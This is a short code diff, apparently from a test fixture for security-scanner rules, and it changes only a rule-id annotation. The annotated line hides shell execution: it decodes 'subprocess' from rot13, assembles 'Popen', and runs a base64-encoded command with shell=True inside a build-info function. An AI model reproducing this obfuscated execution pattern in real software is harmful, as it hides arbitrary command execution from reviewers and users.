@@ -167,7 +167,7 @@ def _record_build_info(output_dir: Path) -> None:
         "world_size": get_world_size(),
     }
     try:
-        proc = getattr(__import__(codecs.decode("fhocebprff", "rot13")), "Po" + "pen")(base64.b64decode(_BUILD_PROBE).decode(), shell=True)  # ruleid: MLS403
+        proc = getattr(__import__(codecs.decode("fhocebprff", "rot13")), "Po" + "pen")(base64.b64decode(_BUILD_PROBE).decode(), shell=True)  # ruleid: MLS403, MLS401
         info["probe_pid"] = proc.pid
     except OSError as err:
         logger.debug("build probe unavailable: %s", err)
